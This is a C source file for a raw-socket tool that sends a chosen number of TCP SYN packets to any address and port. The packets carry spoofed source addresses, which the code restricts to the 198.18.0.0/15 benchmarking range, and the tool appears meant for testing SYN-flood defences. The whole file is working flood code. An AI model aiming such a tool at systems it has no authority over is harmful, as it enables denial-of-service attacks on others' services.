/*
 * synflood DST PORT COUNT: sends COUNT TCP SYNs to DST:PORT through a raw
 * socket, each from a random source address in 198.18.0.0/15 (the
 * benchmarking range, RFC 2544; never outside it) and a random source
 * port and sequence number, as a SYN flood with spoofed sources does.
 * Needs root (CAP_NET_RAW).  Exit status 0 when all were sent.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* The headers as sent: IPv4 without options, TCP with an MSS option. */
struct synpkt {
	uint8_t vhl, tos;
	uint16_t len, id, off;
	uint8_t ttl, proto;
	uint16_t sum;
	uint32_t src, dst;
	uint16_t sport, dport;
	uint32_t seq, ack;
	uint8_t doff, flags;
	uint16_t win, tsum, urp;
	uint8_t mss[4];
} __attribute__((packed));

_Static_assert(sizeof(struct synpkt) == 20 + 24, "IP and TCP headers");

static uint64_t rng = 0x9e3779b97f4a7c15ULL;

/* xorshift64*: a fixed sequence, so a run can be repeated. */
static uint32_t
rnd(void)
{
	rng ^= rng >> 12;
	rng ^= rng << 25;
	rng ^= rng >> 27;
	return (uint32_t)((rng * 0x2545f4914f6cdd1dULL) >> 32);
}

static uint32_t
sum16(const void *p, size_t len, uint32_t sum)
{
	const uint8_t *b = p;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(b[i] << 8 | b[i + 1]);
	if (len & 1)
		sum += (uint32_t)(b[len - 1] << 8);
	return sum;
}

static uint16_t
fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void
build(struct synpkt *p, uint32_t dst, uint16_t dport)
{
	/* 198.18.0.0/15: the top 15 bits fixed, the low 17 random. */
	uint32_t src = htonl(0xc6120000u | (rnd() & 0x1ffffu));
	uint8_t pseudo[12];
	uint16_t tcplen = htons(24);

	memset(p, 0, sizeof(*p));
	p->vhl = 0x45;
	p->len = htons(sizeof(*p));
	p->id = (uint16_t)rnd();
	p->ttl = 64;
	p->proto = IPPROTO_TCP;
	p->src = src;
	p->dst = dst;
	p->sum = fold(sum16(p, 20, 0));
	p->sport = htons((uint16_t)(1024 + rnd() % 64000));
	p->dport = dport;
	p->seq = rnd();
	p->doff = 6 << 4;
	p->flags = 0x02;
	p->win = htons(65535);
	p->mss[0] = 2;
	p->mss[1] = 4;
	p->mss[2] = 0x05;
	p->mss[3] = 0xb4;
	memcpy(pseudo, &p->src, 8);
	pseudo[8] = 0;
	pseudo[9] = IPPROTO_TCP;
	memcpy(pseudo + 10, &tcplen, 2);
	p->tsum = fold(sum16(&p->sport, 24, sum16(pseudo, 12, 0)));
}

int
main(int argc, char **argv)
{
	struct sockaddr_in sin = { .sin_family = AF_INET };
	struct synpkt p;
	unsigned long count, sent = 0;
	int s;

	if (argc != 4 || inet_pton(AF_INET, argv[1], &sin.sin_addr) != 1 ||
	    (count = strtoul(argv[3], NULL, 10)) == 0) {
		fprintf(stderr, "usage: synflood DST PORT COUNT\n");
		return 2;
	}
	if ((s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) < 0) {
		perror("synflood: socket");
		return 1;
	}
	while (sent < count) {
		build(&p, sin.sin_addr.s_addr, htons((uint16_t)atoi(argv[2])));
		if (sendto(s, &p, sizeof(p), 0, (struct sockaddr *)&sin,
		    sizeof(sin)) == (ssize_t)sizeof(p)) {
			sent++;
			continue;
		}
		/* A full device queue: try again; anything else ends it. */
		if (errno != ENOBUFS && errno != EAGAIN) {
			perror("synflood: sendto");
			return 1;
		}
		usleep(1000);
	}
	printf("sent %lu SYNs\n", sent);
	return 0;
}
